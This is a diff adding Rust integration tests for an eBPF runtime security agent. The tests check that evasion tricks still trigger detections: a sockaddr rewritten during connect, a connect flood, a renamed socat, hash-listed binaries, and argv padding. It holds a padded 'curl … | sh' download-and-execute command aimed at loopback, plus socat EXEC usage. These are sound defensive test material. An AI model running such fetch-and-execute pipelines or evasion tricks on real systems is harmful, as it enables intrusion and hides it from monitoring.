@@ -1,0 +1,417 @@
+//! Evasion resistance (issue 11, item 3), one adversarial test per technique: each does what an
+//! attacker would to slip past the sensor or the detector, on a real kernel with the real eBPF
+//! programs, and expects the finding anyway; a benign variant expects none.
+//!
+//! - a blocking connect whose sockaddr another thread rewrites while the handshake sleeps;
+//! - a renamed copy of an installed tool, and a tool on a hash list;
+//! - a command line padded past the exec record's bound;
+//! - a flood of distinct connects before the one that matters.
+//!
+//! The comm-renaming technique (`printf dpkg > /proc/self/comm`) is tested with the other
+//! persistence tests in `detection_techniques.rs` (`a_process_that_names_itself_dpkg_is_not_dpkg`).
+//!
+//! Root only (eBPF). Network activity stays on loopback.
+
+use std::{
+    collections::BTreeMap,
+    io::{BufRead, BufReader},
+    net::TcpListener,
+    os::{fd::AsRawFd, unix::fs::PermissionsExt},
+    path::{Path, PathBuf},
+    process::{Command, Stdio},
+    sync::{Arc, LazyLock},
+    time::Duration,
+};
+
+use node_agent::{
+    agent::boot_id,
+    collector::{Collector, root_or_skip as privileged},
+    detect::{
+        Detector, DetectorConfig, NoLookup, RuleSet,
+        host::{host_details, read_users},
+    },
+    event::{Clock, Event},
+    sensor::SensorOptions,
+    tool_hashes,
+};
+use sha2::{Digest as _, Sha256};
+use vigil_crds::finding::Finding;
+use vigil_detection::{
+    FindingType, IndicatorKind, IntelConfig, ListFormat, ListSource, SharedIntel, ThreatIntel,
+};
+
+/// Generous: a busy machine can take long to hand events over.
+const WAIT: Duration = Duration::from_secs(30);
+const TRIGGER: &str = env!("CARGO_BIN_EXE_vigil-trigger");
+
+static AGENT: LazyLock<Collector> = LazyLock::new(|| {
+    Collector::start(SensorOptions::default()).expect("the sensor starts as root")
+});
+
+fn nonce() -> String {
+    node_agent::collector::unique_name("ve")
+}
+
+/// A scratch directory outside the world-writable ones (programs run from /tmp are findings of
+/// their own), removed when dropped.
+struct Scratch(PathBuf);
+
+impl Scratch {
+    fn new(tag: &str) -> Self {
+        let dir =
+            Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("vigil-ev-{tag}-{}", nonce()));
+        std::fs::create_dir_all(&dir).expect("scratch dir");
+        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+        Self(dir)
+    }
+}
+
+impl Drop for Scratch {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// Runs a command to completion; returns its pid and standard output.
+fn run_out(cmd: &mut Command) -> (u32, String) {
+    LazyLock::force(&AGENT);
+    let child = cmd
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("spawn");
+    let pid = child.id();
+    let out = child.wait_with_output().expect("wait");
+    (pid, String::from_utf8_lossy(&out.stdout).trim().to_owned())
+}
+
+fn run(cmd: &mut Command) -> u32 {
+    run_out(cmd).0
+}
+
+/// A detector with the built-in rules, `intel`, and the installed tools' hashes, as the agent
+/// builds it (`detect::host::build_detector`).
+fn detector(intel: ThreatIntel) -> Detector {
+    let rules = RuleSet::builtin().expect("built-in rules");
+    let tools = tool_hashes::installed_on_host(rules.exe_names());
+    Detector::new(
+        Arc::new(SharedIntel::new(intel)),
+        None,
+        rules,
+        Vec::new(),
+        DetectorConfig {
+            host: host_details(),
+            boot_id: boot_id(),
+            users: read_users(Path::new("/etc/passwd")),
+            ..DetectorConfig::default()
+        },
+        Clock::now(),
+    )
+    .with_tool_hashes(tools.by_digest)
+}
+
+fn tree_events(root: u32) -> Vec<Event> {
+    AGENT
+        .tree_events(root, WAIT)
+        .unwrap_or_else(|| panic!("no exec and exit of {root} within {WAIT:?}"))
+}
+
+/// The findings of the process tree rooted at `root`, one per id.
+fn detect(root: u32, intel: ThreatIntel) -> Vec<Finding> {
+    let mut d = detector(intel);
+    let mut by_id: BTreeMap<String, Finding> = BTreeMap::new();
+    for event in tree_events(root) {
+        for outcome in d.process(&event, &NoLookup) {
+            by_id.insert(outcome.finding.id.clone(), outcome.finding);
+        }
+    }
+    by_id.into_values().collect()
+}
+
+fn rule(f: &Finding) -> &str {
+    f.context
+        .additional
+        .get("ruleId")
+        .map(String::as_str)
+        .unwrap_or("")
+}
+
+/// `(type, ruleId)` of each finding, sorted.
+fn kinds(found: &[Finding]) -> Vec<(String, String)> {
+    let mut k: Vec<_> = found
+        .iter()
+        .map(|f| (f.finding_type.clone(), rule(f).to_owned()))
+        .collect();
+    k.sort();
+    k
+}
+
+/// Intel from list files, as an operator configures it.
+fn intel_from(dir: &Path, lists: &[(&str, IndicatorKind, &[&str], FindingType)]) -> ThreatIntel {
+    let mut config = IntelConfig {
+        builtin: false,
+        ..IntelConfig::default()
+    };
+    for (name, kind, entries, feeds) in lists {
+        let path = dir.join(format!("{name}.txt"));
+        std::fs::write(&path, format!("# test list\n{}\n", entries.join("\n"))).expect("list");
+        config.lists.push(ListSource {
+            name: (*name).to_owned(),
+            path,
+            format: ListFormat::PlainText(*kind),
+            feeds: vec![*feeds],
+        });
+    }
+    let (intel, report) = vigil_detection::load(&config).expect("test intel loads");
+    assert!(report.malformed.is_empty(), "{:?}", report.malformed);
+    intel
+}
+
+fn c2_list(dir: &Path, ip: &str) -> ThreatIntel {
+    intel_from(
+        dir,
+        &[(
+            "test-c2",
+            IndicatorKind::Ip,
+            &[ip],
+            FindingType::BackdoorCcActivityB,
+        )],
+    )
+}
+
+/// `vigil-trigger connect-rewrite` to a listener on `ip` whose accept queue is full, so the
+/// connect sleeps in the handshake while the trigger's second thread rewrites the sockaddr to
+/// an unlisted address; once rewritten, the queue is drained and the connect completes.
+/// Returns the trigger's pid and the listener's port.
+fn rewritten_connect(ip: &str) -> (u32, u16) {
+    LazyLock::force(&AGENT);
+    let listener = TcpListener::bind((ip, 0)).expect("bind a loopback address");
+    // Backlog 0: one connection fills the queue, and SYNs past it are dropped (the client
+    // retransmits, sleeping in connect meanwhile).
+    // SAFETY: a valid listening socket.
+    assert_eq!(
+        unsafe { libc::listen(listener.as_raw_fd(), 0) },
+        0,
+        "listen"
+    );
+    let addr = listener.local_addr().expect("addr");
+    // The filler comes from this process, which the sensor does not observe.
+    let _filler = std::net::TcpStream::connect(addr).expect("fill the queue");
+    let decoy = TcpListener::bind("127.0.0.1:0").expect("decoy");
+    let decoy_addr = decoy.local_addr().expect("decoy addr");
+    let mut child = Command::new(TRIGGER)
+        .args([
+            "connect-rewrite",
+            &addr.to_string(),
+            &decoy_addr.to_string(),
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .expect("spawn the trigger");
+    let pid = child.id();
+    let mut lines = BufReader::new(child.stdout.take().expect("stdout")).lines();
+    let first = lines.next().and_then(Result::ok).unwrap_or_default();
+    assert_eq!(first, "rewritten", "the connect never slept");
+    // Make room: the next SYN retransmission completes the handshake.
+    let _accepted = listener.accept().expect("accept the filler");
+    let outcome = lines.next().and_then(Result::ok).unwrap_or_default();
+    assert_eq!(outcome, "ok", "the connect to {addr}");
+    child.wait().expect("wait");
+    (pid, addr.port())
+}
+
+#[test]
+fn a_connect_whose_sockaddr_is_rewritten_while_it_sleeps_is_still_seen() {
+    if !privileged("a_connect_whose_sockaddr_is_rewritten_while_it_sleeps_is_still_seen") {
+        return;
+    }
+    let dir = Scratch::new("rewrite");
+    let listed = "127.66.11.1";
+    let (pid, port) = rewritten_connect(listed);
+    let found = detect(pid, c2_list(&dir.0, listed));
+    assert_eq!(
+        kinds(&found),
+        [("Backdoor:Runtime/C&CActivity.B".to_owned(), String::new())]
+    );
+    let n = found[0].network.as_ref().expect("network");
+    assert_eq!((n.remote_ip.as_str(), n.remote_port), (listed, port));
+    // Benign: the same trick towards an unlisted address raises nothing.
+    let (pid, _) = rewritten_connect("127.66.11.2");
+    assert!(detect(pid, c2_list(&dir.0, listed)).is_empty());
+}
+
+#[test]
+fn a_flood_of_distinct_connects_cannot_hide_a_later_c2_connect() {
+    if !privileged("a_flood_of_distinct_connects_cannot_hide_a_later_c2_connect") {
+        return;
+    }
+    let dir = Scratch::new("flood");
+    let listed = "127.66.12.1";
+    let listener = TcpListener::bind((listed, 0)).expect("bind");
+    let addr = listener.local_addr().expect("addr");
+    // More distinct connections than the kernel's repeat table holds (16,384).
+    let (pid, out) =
+        run_out(Command::new(TRIGGER).args(["connect-flood", "20000", &addr.to_string()]));
+    assert_eq!(out, "ok");
+    let found = detect(pid, c2_list(&dir.0, listed));
+    let c2: Vec<_> = found
+        .iter()
+        .filter(|f| f.finding_type == "Backdoor:Runtime/C&CActivity.B")
+        .collect();
+    assert_eq!(c2.len(), 1, "{:?}", kinds(&found));
+    let n = c2[0].network.as_ref().expect("network");
+    assert_eq!((n.remote_ip.as_str(), n.remote_port), (listed, addr.port()));
+}
+
+/// The SHA-256 of a file, hex.
+fn sha256_hex(path: &Path) -> String {
+    Sha256::digest(std::fs::read(path).expect("read"))
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+#[test]
+fn a_renamed_copy_of_an_installed_tool_is_still_that_tool() {
+    if !privileged("a_renamed_copy_of_an_installed_tool_is_still_that_tool") {
+        return;
+    }
+    let Ok(socat) = std::fs::canonicalize("/usr/bin/socat") else {
+        eprintln!("skipped: /usr/bin/socat is not installed (scripts/bootstrap.sh installs it)");
+        assert!(std::env::var_os("CI").is_none(), "socat missing under CI");
+        return;
+    };
+    let dir = Scratch::new("tool");
+    let copy = dir.0.join("kworker-helper");
+    std::fs::copy(&socat, &copy).expect("copy socat");
+    std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    // socat connecting a file to a program: what the rule tool-socat-exec is about.
+    let pid = run(Command::new(&copy).args(["-u", "OPEN:/dev/null", "EXEC:/bin/true"]));
+    let found = detect(pid, ThreatIntel::empty());
+    assert_eq!(
+        kinds(&found),
+        [(
+            "Execution:Runtime/SuspiciousTool".to_owned(),
+            "tool-socat-exec".to_owned()
+        )]
+    );
+    let extra = &found[0].context.additional;
+    assert_eq!(
+        (
+            extra.get("identifiedBy").map(String::as_str),
+            extra.get("contentOf").map(String::as_str)
+        ),
+        (Some("content"), Some("socat"))
+    );
+    // Benign: the same copy doing nothing the rule is about.
+    let pid = run(Command::new(&copy).arg("-V"));
+    assert!(detect(pid, ThreatIntel::empty()).is_empty());
+}
+
+#[test]
+fn a_tool_on_a_hash_list_is_found_whatever_its_name() {
+    if !privileged("a_tool_on_a_hash_list_is_found_whatever_its_name") {
+        return;
+    }
+    let dir = Scratch::new("toolhash");
+    // Two programs with their own bytes (trailing bytes keep an ELF runnable).
+    let make = |name: &str| {
+        let path = dir.0.join(name);
+        let mut bytes = std::fs::read(std::fs::canonicalize("/bin/true").expect("true"))
+            .expect("read /bin/true");
+        bytes.extend_from_slice(format!("{name}{}", nonce()).as_bytes());
+        std::fs::write(&path, &bytes).expect("write");
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+        path
+    };
+    let (tool, miner, other) = (make("update"), make("cache"), make("helper"));
+    let (tool_hash, miner_hash) = (sha256_hex(&tool), sha256_hex(&miner));
+    let intel = || {
+        intel_from(
+            &dir.0,
+            &[
+                (
+                    "test-tool-hashes",
+                    IndicatorKind::Sha256,
+                    &[tool_hash.as_str()],
+                    FindingType::ExecutionSuspiciousTool,
+                ),
+                (
+                    "test-miner-hashes",
+                    IndicatorKind::Sha256,
+                    &[miner_hash.as_str()],
+                    FindingType::ImpactCryptoMinerExecuted,
+                ),
+            ],
+        )
+    };
+    for (path, t, hash) in [
+        (&tool, "Execution:Runtime/SuspiciousTool", &tool_hash),
+        (&miner, "Impact:Runtime/CryptoMinerExecuted", &miner_hash),
+    ] {
+        let found = detect(run(&mut Command::new(path)), intel());
+        assert_eq!(
+            found
+                .iter()
+                .map(|f| f.finding_type.as_str())
+                .collect::<Vec<_>>(),
+            [t]
+        );
+        let evidence = &found[0]
+            .evidence
+            .as_ref()
+            .expect("evidence")
+            .threat_intelligence_details;
+        assert_eq!(evidence[0].indicator, *hash);
+    }
+    assert!(detect(run(&mut Command::new(&other)), intel()).is_empty());
+}
+
+#[test]
+fn a_command_padded_past_the_exec_record_still_raises() {
+    if !privileged("a_command_padded_past_the_exec_record_still_raises") {
+        return;
+    }
+    // 3,000 spaces, then the download piped into a shell (port 9 on loopback: refused at once).
+    let padded = format!("{}; curl -s http://127.0.0.1:9/x | sh", " ".repeat(3000));
+    let pid = run(Command::new("/bin/sh").args(["-c", &padded]));
+    let found = detect(pid, ThreatIntel::empty());
+    let k = kinds(&found);
+    for want in [
+        (
+            "Execution:Runtime/SuspiciousCommand",
+            "exec-download-pipe-shell",
+        ),
+        (
+            "DefenseEvasion:Runtime/SuspiciousCommand",
+            "behaviour-argv-padding",
+        ),
+    ] {
+        assert!(
+            k.iter().any(|(t, r)| t == want.0 && r == want.1),
+            "{want:?} in {k:?}"
+        );
+    }
+    let padding = found
+        .iter()
+        .find(|f| rule(f) == "behaviour-argv-padding")
+        .expect("padding finding");
+    // What the record kept of the run: the head's and the tail's spaces (the middle is gone).
+    let kept = padding
+        .context
+        .additional
+        .get("argvPadding")
+        .expect("argvPadding");
+    let (count, what) = kept.split_once(" x ").expect("N x BYTE");
+    assert!(
+        count.parse::<usize>().expect("count") >= 512 && what == "0x20",
+        "{kept}"
+    );
+    // Benign: a long command line of distinct arguments (a compiler's, a linker's).
+    let args: Vec<String> = (0..400).map(|i| format!("--opt-{i:04}")).collect();
+    let pid = run(Command::new("/bin/true").args(&args));
+    assert!(detect(pid, ThreatIntel::empty()).is_empty());
+}
